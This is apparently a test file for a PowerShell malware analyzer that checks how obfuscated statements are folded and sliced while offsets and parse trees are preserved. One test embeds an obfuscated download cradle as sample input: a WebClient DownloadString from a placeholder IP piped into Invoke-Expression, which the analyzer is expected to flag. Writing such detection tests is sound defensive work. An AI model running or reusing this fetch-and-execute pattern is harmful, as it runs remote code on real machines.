"""The folded script keeps only the statements folding changed and their neighbours in data flow."""

from __future__ import annotations

from bisect import bisect_right
from pathlib import Path

import pytest

from psscript_graphql.analyzer import fold_slice
from psscript_graphql.analyzer.analyze import analyze_script
from psscript_graphql.analyzer.fold_roots import script_roots
from psscript_graphql.analyzer.fold_slice import final_run, kept_spans, skippable_runs
from psscript_graphql.analyzer.folded_script import fold_script, parse_folded
from psscript_graphql.analyzer.grammar_gaps import parser_input
from psscript_graphql.analyzer.parse import ScriptTree, parse_script

PADDING = "Write-Output 'unrelated work'\n" * 1500  # 45 kB: over fold_slice.MIN_BLANKED_BYTES
LINES = PADDING.count("\n")


def test_statements_with_nothing_folded_are_blanked_and_offsets_still_map_back() -> None:
    text = "param($Path)\n" + PADDING + "& ('Get-'+'Date') -Format o\n" + PADDING + "Get-Item $Path\n"
    tree = parse_script(text)
    folded = fold_script(tree)
    assert folded is not None
    lines = folded.tree.text.split("\n")
    assert len(lines) == len(text.split("\n"))
    assert lines[0] == "param($Path)"  # the script's param block is always kept
    assert lines[LINES + 1] == "& Get-Date -Format o"
    assert not lines[1].strip() and not lines[LINES + 2].strip() and not lines[-2].strip()
    assert not folded.tree.has_errors
    # A finding's offset after the blanked statements still maps to the text as written.
    after = folded.tree.text.index("-Format")
    assert folded.to_original(after) == text.index("-Format")
    assert folded.tree.commands_named("Get-Date")[0].line == LINES + 2


def test_statements_assigning_or_reading_what_a_folded_statement_uses_are_kept() -> None:
    text = ("$wc = New-Object Net.WebClient\n" + PADDING
            + "$data = $wc.('Down'+'loadString')('http://203.0.113.9/a.ps1')\n" + PADDING
            + "Invoke-Expression $data\n")
    tree = parse_script(text)
    spans = kept_spans(tree, script_roots(tree))
    assert spans is not None
    kept = [text[start:end] for start, end in spans]
    assert kept == ["$wc = New-Object Net.WebClient", "$data = $wc.('Down'+'loadString')('http://203.0.113.9/a.ps1')",
                    "Invoke-Expression $data"]
    # The download flows into Invoke-Expression across 3,000 blanked lines: a cradle, not a plain download.
    found = {(finding.rule, finding.line) for finding in analyze_script(text).findings}
    assert ("PSDownloadCradle", LINES + 2) in found
    assert ("PSNetWebClientDownload", LINES + 2) not in found


def test_small_scripts_and_scripts_folded_almost_everywhere_are_folded_whole() -> None:
    small = "$a = 'Get-' + 'Date'\nWrite-Output 'unrelated'\n"
    tree = parse_script(small)
    assert kept_spans(tree, script_roots(tree)) is None
    folded = fold_script(tree)
    assert folded is not None and folded.tree.text == "$a = 'Get-Date'\nWrite-Output 'unrelated'\n"
    dense = "$a = 'Get-' + 'Date'\n& $a\n$b = 'x' + 'y'\n" * 3000
    tree = parse_script(dense)
    assert kept_spans(tree, script_roots(tree)) is None


def _nodes(tree: ScriptTree) -> list[tuple[str, int, int, tuple[int, int], tuple[int, int]]]:
    found, stack = [], [tree.root]
    while stack:
        node = stack.pop()
        found.append((node.type, node.start_byte, node.end_byte, tuple(node.start_point), tuple(node.end_point)))
        stack.extend(reversed(node.children))
    return found


def test_the_parser_skips_blanked_lines_and_builds_the_same_tree() -> None:
    for newline in ("\n", "\r\n"):
        padding = PADDING.replace("\n", newline)
        # Kept: the folded statement (last, so the offsets before it are the same folded or not) and
        # the two it reads from.
        text = "$a = $x?.Length" + newline + padding + "$b = 'y'" + newline + padding + "& ('Get-'+'Date') $a $b" + newline + padding
        folded = fold_script(parse_script(text))
        assert folded is not None
        source = folded.tree.source
        spans = kept_spans(folded.original, script_roots(folded.original)) or []
        # Two stretches between kept statements are skipped but for their first and last line
        # breaks, and with no syntax error in the script the one after the last statement too.
        final = final_run(fold_slice.blanked(folded.original.source, spans), spans)
        assert final is not None
        shift = len(source) - len(folded.original.source)  # the folded statement is shorter folded
        runs = [*skippable_runs(source, spans), (final[0] + shift, final[1] + shift)]
        assert len(runs) == 3
        for start, end in runs:
            assert source[start - 1 : start] == b"\n" and source[end : end + len(newline)] == newline.encode()
            assert not source[start:end].strip()
        included = folded.tree.tree.included_ranges
        assert [(r.start_byte, r.end_byte) for r in included] == [
            (0, runs[0][0]), (runs[0][1], runs[1][0]), (runs[1][1], runs[2][0]), (runs[2][1], len(source))]
        # tree-sitter's points are 0-based; a run starts at the start of a line.
        assert [tuple(r.end_point) for r in included[:-1]] == [
            (folded.tree.position(start)[0] - 1, 0) for start, _ in runs]
        assert [tuple(r.start_point) for r in included[1:]] == [
            (folded.tree.position(end)[0] - 1, folded.tree.position(end)[1] - 1) for _, end in runs]
        assert _nodes(folded.tree) == _nodes(parse_script(folded.tree.text, fold_candidates=False))
        # The grammar-gap rewrites, run without the skipped runs, are those of the whole text.
        assert folded.tree.parsed == parser_input(source) != source


def test_the_stretch_after_the_last_kept_statement_is_read_whole_when_the_parse_has_a_syntax_error(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Blanking and skipping forced on a small script whose param block lacks a comma: tree-sitter's error recovery
    # ends the ERROR node at the last byte it read, so skipping the whitespace before the end would move it.
    monkeypatch.setattr(fold_slice, "MIN_BLANKED_BYTES", 0)
    monkeypatch.setattr(fold_slice, "MIN_SKIPPED_BYTES", 1)
    path = Path(__file__).parent / "independent_corpora" / "parse_syntax" / "b17_param_missing_comma.ps1"
    tree = parse_script(path.read_text(encoding="utf-8"))
    folded = fold_script(tree)
    assert folded is not None and tree.has_errors
    spans = kept_spans(tree, script_roots(tree)) or []
    source = folded.tree.source
    runs, final = skippable_runs(source, spans), final_run(source, spans)
    assert runs and final is not None
    # The script as written has a syntax error: the final stretch is not skipped.
    assert folded.tree.tree.included_ranges[-1].start_byte < final[0]
    whole = _nodes(parse_script(folded.tree.text, fold_candidates=False, skipped=runs))
    assert _nodes(folded.tree) == whole
    # Skipped, the parse differs; a folded parse with an error after skipping it reads it whole again.
    assert _nodes(parse_script(folded.tree.text, fold_candidates=False, skipped=[*runs, final])) != whole
    again = parse_folded(folded.tree.text, [*runs, final], final_skipped=True)
    assert _nodes(again) == whole and again.tree.included_ranges[-1].end_byte == len(source)


def test_a_statement_is_found_without_climbing_the_tree() -> None:
    """The top-level answer and the walk down from the top-level statement (`_statement`, `_statement_below`) equal
    the climb from the innermost node (`_innermost_statement`) at every variable read and every fold root of the test
    corpora, nested statements and syntax errors included."""
    asked = top_level = below = 0
    for path in sorted(Path(__file__).parent.rglob("*.ps1")):
        tree = parse_script(path.read_text(encoding="utf-8", errors="replace"))
        starts, _names = tree.variable_reads()
        ranges = [(start, start + 1) for start in starts] + [(root.start, root.end) for root in script_roots(tree)]
        top = fold_slice._top_level(tree)
        top_statements = set(zip(top.starts, (node.end_byte for node in top.nodes)))
        for start, end in ranges:
            asked += 1
            found = fold_slice._statement(tree, top, start, end)
            assert found == fold_slice._innermost_statement(tree, start, end), (path, start, end)
            top_level += found in top_statements
            index = bisect_right(top.starts, start) - 1
            if index >= 0 and end <= top.nodes[index].end_byte:
                node = tree.root.descendant_for_byte_range(start, max(start, end - 1))
                walked = fold_slice._statement_below(top.nodes[index], node)
                assert walked in (found, None), (path, start, end)
                below += walked is not None and walked not in top_statements
    assert asked > 10_000 and top_level > 1_000 and below > 1_000
